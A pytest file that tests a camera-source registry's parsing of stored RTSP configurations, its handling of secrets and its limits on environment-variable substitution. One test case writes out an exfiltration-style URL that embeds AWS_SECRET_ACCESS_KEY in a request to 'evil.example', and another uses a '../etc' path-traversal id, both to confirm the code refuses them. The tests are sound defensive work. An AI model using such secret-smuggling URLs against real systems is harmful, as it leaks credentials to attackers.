import json

import pytest
from pydantic import SecretStr

from pipeline.errors import InputError
from workers.cluster.registry import described, digest, source_of, stored
from workers.config import Config, SourceConfig

DOOR = {"url": "rtsp://door/h264", "ingest": {"fps": 5}, "detector": {"min_face": 40}}


def test_what_is_stored_is_read_again():
    source = SourceConfig(url=SecretStr("rtsp://me:hunter2@door/h264"), ingest={"fps": 5})
    found = source_of("door", stored(source), Config())
    assert (found.id, found.url, found.live) == ("door", "rtsp://me:hunter2@door/h264", True)
    assert found.settings.fps == 5
    assert "hunter2" not in found.safe_url
    assert "hunter2" not in digest(stored(source))


def test_settings_are_the_sources_own():
    found = source_of("door", json.dumps(DOOR), Config())
    assert (found.settings.fps, found.detector.min_face) == (5, 40)


def test_secrets_come_from_the_environment(monkeypatch):
    monkeypatch.setenv("CAMERA_DOOR_PASSWORD", "hunter2")
    found = source_of("door", '{"url": "rtsp://me:${CAMERA_DOOR_PASSWORD}@door/h264"}', Config())
    assert found.url == "rtsp://me:hunter2@door/h264"
    assert "hunter2" not in repr(found)


def test_a_variable_that_is_missing_is_named(monkeypatch):
    monkeypatch.delenv("CAMERA_DOOR_PASSWORD", raising=False)
    with pytest.raises(InputError, match="'door': the environment of this process holds no CAMERA_DOOR_PASSWORD"):
        source_of("door", '{"url": "rtsp://me:${CAMERA_DOOR_PASSWORD}@door/h264"}', Config())


@pytest.mark.parametrize(
    ("url", "named"),
    [
        ("http://evil.example/${AWS_SECRET_ACCESS_KEY}/x.mjpg", "AWS_SECRET_ACCESS_KEY"),
        ("rtsp://me:${CAMERA_DOOR}@${AFFECTSTREAM_REDIS__URL}/", "AFFECTSTREAM_REDIS__URL"),
        ("${MY_CAMERA_DOOR}", "MY_CAMERA_DOOR"),
        ("${camera_door}", "camera_door"),
        ("${CAMERA}", "CAMERA"),
    ],
)
def test_whoever_writes_to_redis_learns_nothing_else_of_the_workers_environment(monkeypatch, url, named):
    for variable in ("CAMERA_DOOR", named):
        monkeypatch.setenv(variable, "hunter2")
    with pytest.raises(InputError, match=f"'door': its URL names {named}; .* CAMERA_.* CAMERA_{named}, ") as error:
        source_of("door", json.dumps({"url": url}), Config())
    assert "hunter2" not in str(error.value)


def test_what_a_variable_holds_is_not_looked_through_for_others(monkeypatch):
    monkeypatch.setenv("CAMERA_DOOR", "${SECRET}")
    monkeypatch.setenv("SECRET", "hunter2")
    assert source_of("door", '{"url": "rtsp://door/${CAMERA_DOOR}"}', Config()).url == "rtsp://door/${SECRET}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "rtsp://me:hunter2@door/h264",
        '{"url": "rtsp://me:hunter2@door/h264"',
        '"rtsp://me:hunter2@door/h264"',
        '["rtsp://me:hunter2@door/h264"]',
        '{"url": ["rtsp://me:hunter2@door/h264"]}',
        '{"uri": "rtsp://me:hunter2@door/h264"}',
        '{"url": "rtsp://me:hunter2@door/h264", "fps": 5}',
        '{"url": "rtsp://me:hunter2@door/h264", "ingest": 5}',
        '{"url": "rtsp://me:hunter2@door/h264", "ingest": {"fps": -1}}',
        '{"url": "rtsp://me:hunter2@door/h264", "ingest": {"frames": 1}}',
        '{"url": "gopher://me:hunter2@door/h264"}',
        '{"url": "/nowhere/hall.mp4"}',
        "null",
        "\ufffd",
    ],
)
def test_what_cannot_be_used_is_one_line_without_secrets(text):
    with pytest.raises(InputError) as error:
        source_of("door", text, Config())
    assert str(error.value)
    assert "\n" not in str(error.value)
    assert "hunter2" not in str(error.value)


@pytest.mark.parametrize("name", ["Door", "a:b", "../etc", "7", "", "x" * 65, "do or"])
def test_what_cannot_be_an_id_is_refused(name):
    with pytest.raises(InputError, match="cannot be the id of a source"):
        source_of(name, json.dumps(DOOR), Config())


def test_described_is_the_configuration():
    assert described(json.dumps(DOOR)).ingest == {"fps": 5}
